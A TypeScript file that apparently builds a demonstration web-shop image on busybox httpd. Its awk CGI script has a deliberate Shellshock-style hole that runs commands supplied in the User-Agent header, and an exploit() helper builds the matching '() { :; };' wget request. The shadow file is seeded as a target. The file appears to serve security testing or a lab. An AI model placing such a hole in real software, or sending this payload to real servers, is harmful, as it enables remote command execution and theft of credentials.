import { chmodSync, copyFileSync, linkSync, mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'

/**
 * The image of the demonstration: a small web shop of busybox's httpd and one CGI script, with a hole in
 * it. Version 2 brings a health check (a binary) and a payment configuration.
 */
export const shopVersions = ['1.0', '2.0'] as const
export type ShopVersion = (typeof shopVersions)[number]

export const shopCommand = ['/usr/sbin/httpd', '-f', '-p', '127.0.0.1:8080', '-h', '/srv/www']

/** Hard links, so that each program has a separate path: symbolic links would all resolve to busybox. */
const programs = {
  '/bin': ['sh', 'cat', 'id', 'cp', 'chmod', 'mkdir', 'ls'],
  '/usr/bin': ['awk', 'nc', 'wget', 'sort'],
  '/usr/sbin': ['httpd'],
}

const hole = `  agent = ENVIRON["HTTP_USER_AGENT"]
  if (substr(agent, 1, 3) == "() ") system(substr(agent, index(agent, "};") + 2))`

const script = (version: ShopVersion): string => `#!/usr/bin/awk -f
function show(file,   line) { while ((getline line < file) > 0) print line; close(file) }
BEGIN {
  print "Content-Type: text/plain\\n"
${hole}
  show("/etc/shop/shop.conf")
${version === '1.0' ? '' : '  show("/etc/shop/payment.conf")\n'}  show("/srv/catalog.csv")
  print ENVIRON["QUERY_STRING"] >> "/var/lib/shop/orders.log"
}
`

export function writeShopImage(root: string, version: ShopVersion, busybox: string): void {
  for (const folder of [
    'proc',
    'mnt',
    'dev',
    'root',
    'tmp',
    'var/lib/shop',
    'var/spool/cron/crontabs',
  ])
    mkdirSync(join(root, folder), { recursive: true })
  chmodSync(join(root, 'tmp'), 0o1777)
  const own = join(root, 'bin/busybox')
  mkdirSync(dirname(own), { recursive: true })
  copyFileSync(busybox, own)
  chmodSync(own, 0o755)
  for (const [folder, names] of Object.entries(programs)) {
    mkdirSync(join(root, folder), { recursive: true })
    for (const name of names) linkSync(own, join(root, folder, name))
  }
  const files: Record<string, string> = {
    '/etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n',
    '/etc/group': 'root:x:0:\n',
    '/etc/shadow': 'root:$y$j9T$a-hash-worth-stealing:20000:0:99999:7:::\n',
    '/etc/crontab': '# nothing yet\n',
    '/etc/httpd.conf': 'H:/srv/www\n',
    '/etc/shop/shop.conf': 'currency = EUR\n',
    '/srv/catalog.csv': 'sku,price\nmug,7\nshirt,19\n',
    '/srv/www/index.html': '<h1>shop</h1>\n',
    '/srv/www/style.css': 'h1 { color: teal }\n',
    '/srv/www/cgi-bin/shop': script(version),
  }
  if (version === '2.0') files['/etc/shop/payment.conf'] = 'provider = example\n'
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true })
    writeFileSync(join(root, path), content)
  }
  chmodSync(join(root, '/srv/www/cgi-bin/shop'), 0o755)
  chmodSync(join(root, '/etc/shadow'), 0o600)
  if (version === '2.0') linkSync(own, join(root, '/srv/www/cgi-bin/uptime'))
}

/** A visitor's requests: the shop's normal behaviour. */
export function visits(version: ShopVersion, round: number): readonly (readonly string[])[] {
  const url = (path: string): readonly string[] => [
    ...'wget -q -T 2 -O -'.split(' '),
    `http://127.0.0.1:8080${path}`,
  ]
  const pages = [url('/'), url('/style.css'), url(`/cgi-bin/shop?order=${round}`)]
  return version === '1.0' ? pages : [...pages, url('/cgi-bin/uptime')]
}

/** A request that makes the shop run `command`: the oldest hole of CGI there is. */
export function exploit(command: string): readonly string[] {
  return [
    ...'wget -q -T 3 -O - -U'.split(' '),
    `() { :; }; ${command}`,
    'http://127.0.0.1:8080/cgi-bin/shop',
  ]
}
